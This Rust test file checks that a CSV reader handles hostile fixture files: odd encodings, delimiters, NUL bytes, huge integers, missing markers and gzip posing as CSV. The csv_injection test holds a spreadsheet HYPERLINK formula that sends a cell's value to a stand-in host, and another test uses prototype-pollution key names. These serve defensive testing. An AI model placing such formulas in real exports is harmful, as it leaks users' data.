//! Every hostile file in `tests/fixtures/nasty` does what its `EXPECTED.json` says of it.

#![expect(clippy::panic, clippy::unwrap_used, reason = "helpers of tests")]

use std::fs;
use std::path::PathBuf;

use report::{
    DecimalMark, Encoding, Event, Kind, LedgerEntry, Missing, Problem, Reading, Remedy, Side,
};
use table::{Column, Table};

fn read_as(file: &str, reading: &Reading) -> Result<Table, Problem> {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/nasty");
    table::read(file, &fs::read(folder.join(file)).unwrap(), reading)
}

fn read(file: &str) -> Table {
    read_as(file, &Reading::default()).unwrap()
}

fn ledger(table: &Table, event: Event) -> Vec<LedgerEntry> {
    table.ledger(Side::Reference).into_iter().filter(|entry| entry.event == event).collect()
}

fn entry(table: &Table, event: Event) -> LedgerEntry {
    ledger(table, event).first().unwrap_or_else(|| panic!("no {event:?}")).clone()
}

fn column<'a>(table: &'a Table, name: &str) -> &'a Column {
    table.column(name).unwrap_or_else(|| panic!("no column {name}"))
}

fn names(table: &Table) -> Vec<&str> {
    table.columns().iter().map(Column::name).collect()
}

/// Four columns and 50 rows, read without a remark but those of some events.
fn assert_ordinary(table: &Table, remarks: &[Event]) {
    assert_eq!(names(table), ["id", "score", "segment", "label"]);
    assert_eq!(table.rows(), 50);
    assert_eq!(column(table, "score").kind(), Kind::Float);
    assert_eq!(column(table, "label").kind(), Kind::Integer);
    assert_eq!(column(table, "segment").kind(), Kind::Category);
    assert_eq!(column(table, "score").numbers().unwrap()[..2], [1.5, 3.0]);
    let events: Vec<Event> =
        table.ledger(Side::Reference).iter().map(|entry| entry.event).collect();
    assert_eq!(events, remarks);
}

#[test]
fn bom_utf8() {
    assert_ordinary(&read("bom_utf8.csv"), &[]);
}

#[test]
fn crlf() {
    let table = read("crlf.csv");
    assert_ordinary(&table, &[]);
    assert_eq!(table.preview()[0], ["1", "1.5", "b", "1"]);
}

#[test]
fn semicolon() {
    let table = read("semicolon.csv");
    assert_ordinary(&table, &[]);
    assert_eq!(table.dialect().delimiter, ';');
}

#[test]
fn semicolon_decimal_comma() {
    let table = read("semicolon_decimal_comma.csv");
    assert_eq!(table.rows(), 40);
    assert_eq!(table.dialect().decimal_mark, DecimalMark::Comma);
    let price = column(&table, "preis").numbers().unwrap();
    let mean = price.iter().sum::<f64>() / price.len() as f64;
    assert!((mean - 20.705).abs() < 1e-9 * mean, "{mean}");
    assert_eq!(entry(&table, Event::DecimalComma).remedy, Some(Remedy::DecimalPoint));
}

#[test]
fn pipe() {
    let table = read("pipe.csv");
    assert_ordinary(&table, &[]);
    assert_eq!(table.dialect().delimiter, '|');
}

#[test]
fn ragged_short_and_long() {
    let table = read("ragged_short_and_long.csv");
    assert_eq!(table.rows(), 3);
    assert_eq!(table.rows_skipped(), 2);
    assert_eq!(column(&table, "id").numbers().unwrap(), [1.0, 4.0, 5.0]);
    let few = entry(&table, Event::TooFewFields);
    assert_eq!((few.line, few.rows), (Some(3), 1));
    assert_eq!(few.message, "Skipped: 2 fields instead of 3");
    assert_eq!(entry(&table, Event::TooManyFields).line, Some(4));
    assert_eq!(entry(&table, Event::BlankLine).line, Some(6));
}

#[test]
fn empty() {
    let problem = read_as("empty.csv", &Reading::default()).unwrap_err();
    assert_eq!(problem.what, "The file is empty");
    assert_eq!(problem.file.as_deref(), Some("empty.csv"));
}

#[test]
fn header_only() {
    let table = read("header_only.csv");
    assert_eq!((table.columns().len(), table.rows()), (4, 0));
    assert_eq!(entry(&table, Event::NoRows).message, "There are 4 columns and no rows");
}

#[test]
fn single_column() {
    let table = read("single_column.csv");
    assert_eq!(table.columns().len(), 1);
    assert_eq!(column(&table, "score").kind(), Kind::Float);
    assert_eq!(column(&table, "score").numbers().unwrap().len(), 100);
}

#[test]
fn no_header_numeric() {
    let table = read("no_header_numeric.csv");
    assert_eq!(table.rows(), 19);
    assert_eq!(entry(&table, Event::HeaderLooksLikeData).remedy, Some(Remedy::NoHeader));
    let reading = Reading { has_header: Some(false), ..Reading::default() };
    let table = read_as("no_header_numeric.csv", &reading).unwrap();
    assert_eq!(table.rows(), 20);
    assert_eq!(names(&table), ["column_1", "column_2", "column_3"]);
    assert!(table.ledger(Side::Reference).is_empty());
}

#[test]
fn nul_bytes() {
    let table = read("nul_bytes.csv");
    assert_eq!(table.rows(), 3);
    let score = column(&table, "score");
    assert_eq!(score.numbers().unwrap(), [0.5, 0.9]);
    assert_eq!(score.missing(), Missing { unreadable: 1, ..Missing::default() });
    let name = column(&table, "name");
    assert_eq!(name.label(0).as_deref(), Some("al\0ice"));
    let entries = ledger(&table, Event::NulByte);
    let places: Vec<_> = entries.iter().map(|e| (e.column.as_deref(), e.line, e.rows)).collect();
    assert_eq!(places, [(Some("name"), Some(2), 2), (Some("score"), Some(3), 1)]);
}

#[test]
fn cp1252_smart_quotes() {
    let table = read("cp1252_smart_quotes.csv");
    assert_eq!(table.rows(), 2);
    assert_eq!(table.dialect().encoding, Encoding::Windows1252);
    assert_eq!(table.preview()[0][1], "“quoted” – dash");
    assert_eq!(table.preview()[1][1], "€ 100");
    assert_eq!(entry(&table, Event::Decoded).message, "Read as Windows-1252");
}

#[test]
fn utf16_be_nobom() {
    let table = read("utf16_be_nobom.csv");
    assert_ordinary(&table, &[Event::Decoded]);
    assert_eq!(table.dialect().encoding, Encoding::Utf16Be);
}

#[test]
fn bare_quotes_inside() {
    let table = read("bare_quotes_inside.csv");
    let sizes: Vec<_> =
        (0..table.rows()).filter_map(|row| column(&table, "size").label(row)).collect();
    assert_eq!(sizes, ["5\" pipe", "6\" pipe", "7\" pipe"]);
}

#[test]
fn ints_over_2_53() {
    let table = read("ints_over_2_53.csv");
    for (name, first) in [("id", "9007199254740993"), ("big", "9223372036854775808")] {
        let column = column(&table, name);
        assert_eq!(column.kind(), Kind::Identifier, "{name}");
        assert_eq!(column.distinct(), Some(12), "{name}");
        assert_eq!(column.label(0).as_deref(), Some(first));
    }
    assert_eq!(entry(&table, Event::LargeInteger).column.as_deref(), Some("id"));
    assert_eq!(entry(&table, Event::NumberKeptAsIdentifier).column.as_deref(), Some("big"));
}

#[test]
fn missing_markers() {
    let table = read("missing_markers.csv");
    let a = column(&table, "a");
    assert_eq!(a.kind(), Kind::Float);
    assert_eq!(a.numbers().unwrap(), [1.5, 2.5, 3.5]);
    let expected =
        Missing { empty: 1, marker: 9, nan: 2, infinite: 3, unreadable: 0, unmatched: 0 };
    assert_eq!(a.missing(), expected);
    let infinite = entry(&table, Event::InfiniteValue);
    assert_eq!((infinite.line, infinite.rows), (Some(14), 3));
    assert!(table.dialect().missing_markers.contains(&"N/A".to_owned()));
}

#[test]
fn all_missing_column() {
    let table = read("all_missing_column.csv");
    let void = column(&table, "void");
    assert_eq!(void.kind(), Kind::Empty);
    assert_eq!(void.missing().empty, 200);
    assert_eq!(entry(&table, Event::AllMissing).column.as_deref(), Some("void"));
}

#[test]
fn csv_injection() {
    let table = read("csv_injection.csv");
    let segment = column(&table, "segment");
    assert_eq!(
        segment.label(0).as_deref(),
        Some("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")")
    );
    assert_eq!(segment.label(1).as_deref(), Some("+1+1"));
    assert_eq!(segment.label(4).as_deref(), Some("\t=1+1"));
    assert_eq!(table.rows(), 6);
}

#[test]
fn prototype_names() {
    let table = read("prototype_names.csv");
    assert_eq!(names(&table), ["__proto__", "constructor", "toString", "hasOwnProperty", "score"]);
    let expected =
        ["__proto__", "constructor", "hasOwnProperty", "valueOf"].map(|n| (n.to_owned(), 5));
    assert_eq!(column(&table, "toString").counts(), expected);
}

#[test]
fn gzip_named_csv() {
    let table = read("gzip_named_csv.csv");
    assert_ordinary(&table, &[Event::Decompressed]);
    assert!(table.dialect().gzip);
    assert_eq!(table.bytes(), 250);
}

#[test]
fn unicode_normalization() {
    let table = read("unicode_normalization.csv");
    let city = column(&table, "city");
    assert_eq!(city.distinct(), Some(5));
    let texts: Vec<String> = city.counts().into_iter().map(|(text, _)| text).collect();
    assert!(texts.is_sorted());
    assert_eq!(entry(&table, Event::LookAlikeValues).rows, 5);
}

#[test]
fn sep_directive() {
    let table = read("sep_directive.csv");
    assert_eq!(names(&table), ["id", "score"]);
    assert_eq!(column(&table, "score").numbers().unwrap(), [0.5, 0.6]);
    assert_eq!(ledger(&table, Event::SeparatorLine).len(), 1);
}

#[test]
fn no_final_newline() {
    let table = read("no_final_newline.csv");
    assert_ordinary(&table, &[]);
    assert_eq!(column(&table, "label").missing().total(), 0);
}

#[test]
fn every_file_has_a_test() {
    let expected = fs::read_to_string(
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/nasty/EXPECTED.json"),
    );
    let expected: serde_json::Value = serde_json::from_str(&expected.unwrap()).unwrap();
    let source = include_str!("nasty.rs");
    for file in expected.as_object().unwrap().keys() {
        let test = format!("fn {}()", file.trim_end_matches(".csv"));
        assert!(source.contains(&test), "{file}");
    }
}
